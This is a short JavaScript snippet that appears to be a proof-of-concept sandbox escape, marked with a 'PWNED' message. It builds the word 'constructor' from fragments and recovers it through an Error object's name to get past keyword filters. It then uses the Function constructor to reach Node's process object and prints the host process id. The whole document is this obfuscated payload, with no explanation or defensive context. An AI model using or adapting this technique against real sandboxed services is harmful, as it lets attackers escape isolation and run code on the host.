'use strict';
const w = ['con', 'structor'].join('');
const fn = (x) => x;
const e = Object.assign(new Error(''), { name: w });
console.log('PWNED', fn[String(e)]('return process')().pid);
